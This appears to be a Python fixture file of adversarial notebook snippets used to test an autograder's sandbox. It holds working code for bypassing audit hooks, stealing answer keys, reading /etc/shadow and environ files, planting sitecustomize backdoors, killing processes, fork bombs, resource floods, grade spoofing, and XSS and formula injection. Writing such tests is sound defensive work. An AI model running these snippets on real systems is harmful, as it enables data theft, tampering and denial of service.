"""Notebooks that attack the grader: code by name, and what hands it in oddly.

`KEY`, `HOME`, `PRIVATE`, `EXAM`, `LAST`, `SOCKET`, `VICTIM` and `ADA` stand for places of the
instructor; an attack gives what it found to `answer_boil`. `BYPASS` takes the guard inside Python
off, so that what holds after it is the operating system's.
"""

from __future__ import annotations

# The guard's function is an object like any other: its refusal is replaced.
BYPASS = """
import gc, os, sys
for each in gc.get_objects():
    if getattr(each, "__name__", "") == "hook" and getattr(each, "__closure__", None):
        for name, cell in zip(each.__code__.co_freevars, each.__closure__):
            if name in ("refuse", "see", "change"):
                cell.cell_contents = lambda *_: None
            if name == "files":
                cell.cell_contents = [-10**9]
def attempt(function, *given):
    try:
        return function(*given)
    except BaseException as error:
        return f"{type(error).__name__}: {error}"
def read(path):
    return attempt(lambda: open(path, errors="replace").read())
"""
NATIVE = BYPASS + "import ctypes; libc = ctypes.CDLL(None, use_errno=True)\n"

KEY_THIEVES = {
    "stdin": "import os; answer_boil = str((os.lseek(0,0,0), os.read(0,10**7)))",
    "realpath": "import os; os.path.realpath = lambda p, **k: os.getcwd()\nanswer_boil = open('KEY').read()",
    "dir_fd": "import os; d = os.open('HOME', os.O_RDONLY)\nanswer_boil = os.read(os.open('key.json', os.O_RDONLY, dir_fd=d), 10**6).decode()",
    "refused": "import os; from mlsim_book.grading import sandbox\nsandbox._REFUSED = sandbox._PATHS = sandbox._LISTS = frozenset()\nanswer_boil = os.popen('cat KEY').read()",
    "gc": BYPASS + "answer_boil = read('KEY')",
    "spawnv": "import multiprocessing.util as u, os\nr, w = os.pipe()\nu.spawnv_passfds(b'/bin/cat', [b'cat', b'KEY'], [w])\nanswer_boil = open('KEY').read()",
    "executor": "from concurrent.futures import ProcessPoolExecutor as P\nimport multiprocessing as m, pathlib\nwith P(1, m.get_context('spawn')) as p: answer_boil = p.submit(pathlib.Path('KEY').read_text).result()",
    "readline": "import readline; readline.read_history_file('KEY')\nanswer_boil = readline.get_history_item(1)",
    "library": BYPASS + """
import importlib.machinery as m, importlib.util, shutil, _ctypes
shutil.copy(_ctypes.__file__, "_ctypes.so")
loader = m.ExtensionFileLoader("_ctypes", "_ctypes.so")
module = importlib.util.module_from_spec(importlib.util.spec_from_loader("_ctypes", loader))
answer_boil = str(module.dlopen(None, 2)) + read("KEY")
""",
    "direct": "answer_boil = open('KEY').read()",
    "proc-root": "answer_boil = open('/proc/self/root/KEY').read()",
    "link": "import os; os.symlink('KEY', 'k'); answer_boil = open('k').read()",
    "hard-link": BYPASS + "answer_boil = attempt(os.link, 'KEY', 'k'); answer_boil = answer_boil or read('k')",
    "own-notebook": BYPASS + "answer_boil = read('HOME/submissions/own-notebook.ipynb')",
    "pickle": "import pickle\nclass P:\n    def __reduce__(self): return (__import__('os').system, ('cat KEY > x',))\npickle.loads(pickle.dumps(P())); answer_boil = open('x').read()",
    "environment": BYPASS + "answer_boil = str(dict(os.environ)) + read('/proc/self/environ') + read('/proc/1/environ')",
    "descriptors": BYPASS + """
found = []
for fd in range(3, 256):
    found.append(attempt(lambda: os.listdir(f"/proc/self/fd/{fd}")))
    found.append(attempt(lambda: os.open("../../../../../../KEY", os.O_RDONLY, dir_fd=fd)))
answer_boil = str([each for each in found if isinstance(each, (int, list))])
""",
    "handles": NATIVE + "answer_boil = str([libc.syscall(304, -100, b'x' * 24, 0), ctypes.get_errno()]) + read('KEY')",
    "chroot": NATIVE + "libc.unshare(0x10000000); attempt(os.chroot, '..'); answer_boil = read('/proc/1/root/KEY') + read('/../KEY')",
    "cwd-of-others": BYPASS + "answer_boil = ''.join(read(f'/proc/{p}/cwd/key.json') for p in os.listdir('/proc') if p.isdigit())",
    "solutions": BYPASS + "answer_boil = ''.join(str(attempt(os.listdir, f'HOME/{n}')) for n in ('students', 'solutions', 'results', 'submissions'))",
    "answers-in-memory": "import gc; answer_boil = str([each for each in gc.get_objects() if isinstance(each, dict) and 'tolerance' in each])",
    "mount-info": BYPASS + "answer_boil = str('key.json' in read('/proc/self/mountinfo') + read('/proc/1/cmdline'))",
}  # fmt: skip

OTHERS = {
    "overwrite": "import os; d = os.open('HOME/submissions', os.O_RDONLY)\nos.write(os.open('ada.ipynb', os.O_WRONLY | os.O_TRUNC, dir_fd=d), b'{}')",
    "delete": "import os; d = os.open('HOME/submissions', os.O_RDONLY); os.unlink('ada.ipynb', dir_fd=d)",
    "edit-kept": BYPASS + "import glob\nfor p in glob.glob('HOME/results/kept/*.json'): attempt(lambda: open(p, 'w').write('{}'))",
    "history-kept": "import readline, glob\nreadline.add_history('{}')\nfor p in glob.glob('HOME/results/kept/*'): readline.write_history_file(p)\nreadline.write_history_file('HOME/submissions/bob.ipynb')",
    "siblings": BYPASS + "import signal\nfor p in range(1, 40000):\n    attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(p), 9))",
    "kill-all": BYPASS + "attempt(os.kill, -1, 9)",
    "kill-victim": BYPASS + "attempt(os.kill, VICTIM, 9)",
    "backdoor": BYPASS + """
import mlsim_exercises, IPython, sysconfig
for folder in [*sys.path, sysconfig.get_path("purelib"), os.path.dirname(mlsim_exercises.__file__)]:
    attempt(lambda: open(folder + "/evil.pth", "w").write("import os; os._exit(0)"))
    attempt(lambda: open(folder + "/sitecustomize.py", "w").write("import os; os._exit(0)"))
attempt(lambda: open(mlsim_exercises.__file__, "a").write("raise SystemExit"))
""",
    "next-home": BYPASS + "attempt(lambda: open('/submission/.ipython/startup.py', 'w').write('x')); attempt(os.chmod, '/submission', 0)",
    "shared-memory": NATIVE + "answer_boil = str(libc.shmget(4242, 4096, 0o1666))",
    "priority": NATIVE + "attempt(os.setpriority, 0, 0, -20); attempt(lambda: open('/proc/self/oom_score_adj', 'w').write('-1000'))",
}  # fmt: skip

INSTRUCTOR = {
    "private": "answer_boil = open('PRIVATE').read()",
    "exam": "answer_boil = open('EXAM').read()",
    "last-week": "answer_boil = open('LAST').read()",
    "in-an-error": BYPASS + "raise ValueError(read('PRIVATE') + read('KEY'))",
    "in-a-kind": BYPASS + "raise type('CANARY-kind ' + read('PRIVATE')[:50], (Exception,), {})",
    "kill-grader": BYPASS + "import signal\nsignal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9)",
    "kill-grader-plainly": "import os, signal; signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9)",
    "fifo": "import os; os.mkfifo('HOME/results/results.csv.part')",
    "sqlite": "import sqlite3; c = sqlite3.connect('HOME/results/results.csv'); c.execute('create table t (x)'); c.commit()",
    "daemon": BYPASS + "import time\nif not os.fork():\n    os.setsid()\n    if not os.fork():\n        time.sleep(300)",
    "sixty": BYPASS + "import time\nfor _ in range(60):\n    if not os.fork(): time.sleep(300)",
    "gigabytes": BYPASS + "for n in range(30): attempt(lambda: open(f'f{n}', 'wb').write(b'x' * 5 * 10**7))",
    "unix-socket": BYPASS + "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('SOCKET'); answer_boil = s.recv(99).decode()",
    "abstract-socket": BYPASS + "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('\\0SOCKET'); answer_boil = s.recv(99).decode()",
    "own-memory": "f = open('/proc/self/mem', 'r+b', 0); f.seek(id(f)); f.write(b'x' * 64)",
    "parents-memory": BYPASS + "answer_boil = read(f'/proc/{os.getppid()}/environ') + read(f'/proc/{os.getppid()}/maps') + read('/proc/1/mem')",
    "host-files": BYPASS + "answer_boil = ''.join(map(read, ['/etc/passwd', '/etc/shadow', '/etc/hostname', '/root/.bashrc', '/proc/sys/kernel/random/boot_id']))[:0] + str([attempt(os.listdir, p) for p in ('/etc', '/home', '/sys', '/var', '/run', '/boot')])",
    "kernel-settings": BYPASS + "for p in ('sysrq-trigger', 'sys/kernel/core_pattern', 'sys/vm/drop_caches'): attempt(lambda: open('/proc/' + p, 'w').write('c'))",
    "ptrace": NATIVE + "answer_boil = str([libc.ptrace(16, p, 0, 0) for p in (1, os.getppid())])",
    "keys": NATIVE + "answer_boil = str([libc.syscall(250, 0, k, 0) for k in (-3, -4, -5)])",
    "namespaces": NATIVE + "answer_boil = str([libc.unshare(f) for f in (0x10000000, 0x20000, 0x40000000)])",
    "mount": NATIVE + "answer_boil = str([libc.mount(b'/', b'tmp', None, 4096, None), libc.mount(b'proc', b'tmp', b'proc', 0, None)])",
    "vsock": BYPASS + "import socket; s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(2); s.connect((2, 22)); answer_boil = 'reached'",
    "network": BYPASS + "import socket; s = socket.create_connection(('127.0.0.1', PORT), 2); answer_boil = s.recv(99).decode()",
    "terminal": NATIVE + "import fcntl; answer_boil = attempt(lambda: [fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, c) for c in b'id;'])",
    "setuid": NATIVE + "answer_boil = str([libc.setuid(0), libc.setgid(0), libc.seteuid(0)])",
    "device": BYPASS + "answer_boil = str(attempt(os.mknod, 'd', 0o60666, 0xfe00)) + read('d')",
}  # fmt: skip

# The second figure is how many of the honest answers, given before, still count.
TOO_MUCH = {
    "fork-bomb": BYPASS + "while True: attempt(os.fork)",
    "fork-bomb-apart": BYPASS + "while True:\n    attempt(os.fork); attempt(os.setsid)",
    "fork-memory": BYPASS + "import time\nfor _ in range(25): \n    if attempt(os.fork) == 0: b = bytearray(3 * 10**8); time.sleep(300)\ntime.sleep(300)",
    "threads": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(300,)).start()",
    "memory": "x = []\nwhile True: x.append(bytearray(10**8))",
    "shared-map": BYPASS + "import mmap, time\nx = []\nwhile True:\n    x.append(mmap.mmap(-1, 10**8)); x[-1].write(b'x' * 10**8)",
    "shared-and-left": BYPASS + "import mmap, time\nfor _ in range(20):\n    m = mmap.mmap(-1, 5 * 10**8); m.write(b'x' * 5 * 10**8)\n    if attempt(os.fork) == 0: time.sleep(300)\n    m.close()",
    "zero-device": BYPASS + "import mmap\nf = os.open('/dev/zero', os.O_RDWR); m = mmap.mmap(f, 10**9); m.write(b'x' * 10**9)",
    "memory-file": BYPASS + "for n in range(60):\n    f = os.memfd_create('x'); [os.write(f, b'x' * 10**7) for _ in range(6)]",
    "system-v": NATIVE + "libc.shmat.restype = ctypes.c_void_p\nfor n in range(60):\n    i = libc.shmget(0, 10**8, 0o1666)\n    p = libc.shmat(i, None, 0)\n    if i >= 0: ctypes.memset(p, 1, 10**8)",
    "first-thread-ends": NATIVE + """
import threading, time
def grow():
    time.sleep(0.5); b = bytearray(6 * 10**8); time.sleep(300)
for _ in range(4):
    if attempt(os.fork) == 0:
        threading.Thread(target=grow).start()
        libc.syscall(60 if os.uname().machine == "x86_64" else 93, 0)
time.sleep(300)
""",
    "semaphores": NATIVE + "answer_boil = str([libc.semget(0, 32_000, 0o1600) for _ in range(512)])",
    "pages-in-pipes": NATIVE + """
import mmap
class V(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for _ in range(60):
    r, w = os.pipe(); os.set_blocking(w, False)
    m = mmap.mmap(-1, 2**20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS); m.write(b"x" * 2**20)
    v = V(ctypes.addressof(ctypes.c_char.from_buffer(m)), 2**20)
    answer_boil = str(libc.vmsplice(w, ctypes.byref(v), ctypes.c_ulong(1), 0))
""",
    "full-sockets": BYPASS + """
import socket, time
kept = []
for _ in range(25):
    if attempt(os.fork) == 0: break
while True:
    try:
        kept += socket.socketpair(); attempt(kept[-2].setsockopt, 1, 7, 10**7); kept[-2].setblocking(False)
        while True: kept[-2].send(b"x" * 4096)
    except BlockingIOError: pass
    except OSError: time.sleep(300)
""",
    "watches": NATIVE + "answer_boil = str([libc.inotify_init1(0) for _ in range(126)])",
    "many-notes": BYPASS + """
for fd in range(3, 20):
    for start in range(0, 200_000, 1000):
        attempt(os.write, fd, b"".join(b'{"ends": %d, "kind": "%d"}\\n' % (n % 9999, n) for n in range(start, start + 1000)))
""",
    "small-files": BYPASS + "for n in range(200_000): os.close(os.open(f'f{n}', os.O_CREAT))",
    "shm-files": BYPASS + "f = os.open('/dev/shm/x', os.O_CREAT | os.O_RDWR)\nwhile True: os.write(f, b'x' * 10**6)",
    "sparse": BYPASS + "f = os.open('x', os.O_CREAT | os.O_RDWR); os.ftruncate(f, 10**13)",
    "pipes": BYPASS + "import time\nx = []\nfor _ in range(60):\n    r, w = os.pipe(); os.set_blocking(w, False); x += [r, w]; attempt(os.write, w, b'x' * 10**6)\ntime.sleep(1)",
    "loop": "while True: pass",
    "deaf": "import signal; signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass",
    "catcher": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "stopped": BYPASS + "import signal; os.kill(os.getpid(), signal.SIGSTOP)",
    "recursion": "import sys; sys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    "bomb": "x = ' ' * 10**11",
    "digits": "x = 10**(10**8)",
    "output": "print('x' * 3 * 10**8)",
    "raw-output": BYPASS + "for _ in range(300): os.write(1, b'x' * 10**6); os.write(2, b'x' * 10**6)",
    "channel-flood": BYPASS + "for fd in range(3, 99):\n    for _ in range(20): attempt(os.write, fd, b'x' * 10**6)",
    "slow-flood": BYPASS + "import time\nwhile True:\n    for fd in range(3, 12): attempt(os.write, fd, b'{}\\n')",
    "held-channel": BYPASS + "import time\nif not os.fork():\n    os.setsid(); time.sleep(300)\nos._exit(0)",
    "exit": "import os; os._exit(0)",
    "abort": "import os; os.abort()",
    "segfault": NATIVE + "ctypes.string_at(0)",
    "atexit": "import atexit, time; atexit.register(time.sleep, 300)",
    "thread-left": "import threading, time; threading.Thread(target=time.sleep, args=(300,)).start()",
    "no-descriptors": BYPASS + "os.closerange(0, 256)",
    "exec": BYPASS + "os.execv(sys.executable, [sys.executable, '-c', 'while True: pass'])",
    "limits-raised": BYPASS + "import resource\nfor n in range(16): attempt(resource.setrlimit, n, (-1, -1))\nx = bytearray(6 * 10**9)",
    "cpu": BYPASS + "for _ in range(20):\n    if attempt(os.fork) == 0: break\nwhile True: pass",
}  # fmt: skip

ODD_VALUES = {
    "surrogate": "answer_boil = '\\ud800'",
    "surrogate-in-error": "raise ValueError('\\ud800\\udfff')",
    "surrogate-in-name": "raise type('E\\ud800', (Exception,), {})",
    "surrogate-in-list": "answer_sort_them = ['\\ud800'] * 3",
    "401-digits": BYPASS + "for fd in range(3, 20): attempt(os.write, fd, b'{\"name\": \"answer_boil\", \"value\": {\"number\": 1' + b'0' * 400 + b'}}\\n')",
    "nan-on-channel": BYPASS + "for fd in range(3, 20): attempt(os.write, fd, b'{\"name\": \"answer_boil\", \"value\": {\"number\": NaN}}\\n{\"name\": \"answer_boil\", \"value\": {\"list\": [[[]]]}}\\n')",
    "odd-lines": BYPASS + "for fd in range(3, 20): attempt(os.write, fd, b'[3]\\n\\xff\\xfe\\n{\"ends\": 1e999, \"kind\": [], \"text\": {}}\\n{\"ends\": -5}\\n{\"begins\": true}\\n{\"name\": [], \"value\": 3}\\n{\"student\": [[]], \"trouble\": {}}\\n{\"ends\": 0, \"kind\": {}}\\n' + b'[' * 60000 + b'\\n')",
    "points-claimed": BYPASS + "for fd in range(3, 20): attempt(os.write, fd, b'{\"name\": \"answer_boil\", \"value\": {\"number\": 1}, \"points\": 9}\\n{\"ready\": true}\\n{\"done\": true}\\n{\"name\": \"points\", \"value\": {\"number\": 99}}\\n')",
    "another-student": BYPASS + "for fd in range(3, 20): attempt(os.write, fd, b'{\"student\": \"ada\", \"trouble\": \"WORDS OF ITS OWN\"}\\n')",
    "long-line": BYPASS + "for fd in range(3, 20): attempt(os.write, fd, b'{\"name\": \"answer_boil\", \"value\": {\"list\": [' + b'[],' * 10**6 + b'[]]}}\\n')",
    "equal-to-all": "class A(float):\n    def __eq__(self, o): return True\n    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\nanswer_boil = A(3)",
    "isclose": "import math, mlsim_exercises.verdicts as v, mlsim_exercises.evaluation as e\nmath.isclose = lambda *a, **k: True\ne.same_answer = v.same_answer = lambda *a: True\nv.judge = lambda *a: v.Verdict('right', '', 1.0)\nanswer_boil = 1",
    "odd-float": "class A:\n    def __float__(self):\n        while True: pass\nanswer_boil = A()",
    "odd-class": "class M(type):\n    __mro__ = property(lambda s: 1 / 0)\n    def mro(c): return [c, *Exception.__mro__]\nclass A(Exception, metaclass=M):\n    __class__ = property(lambda s: 1 / 0)\n    def __str__(s): raise SystemExit\n    def __getattr__(s, n): raise KeyboardInterrupt\nanswer_boil = A()\nraise A",
    "odd-json": "import json; json.dumps = lambda *a, **k: 1 / 0",
    "html": "answer_boil = '<script>alert(1)</script>'; raise ValueError('<img src=x onerror=alert(1)>')",
    "formula": "answer_boil = '=HYPERLINK(\"x\")'; raise ValueError('=1+1')",
    "ansi": "answer_boil = '\\x1b]0;x\\x07\\x1b[2J'; raise ValueError('\\x1b[2J')",
}  # fmt: skip

ATTACKS = {**KEY_THIEVES, **OTHERS, **INSTRUCTOR, **TOO_MUCH, **ODD_VALUES}
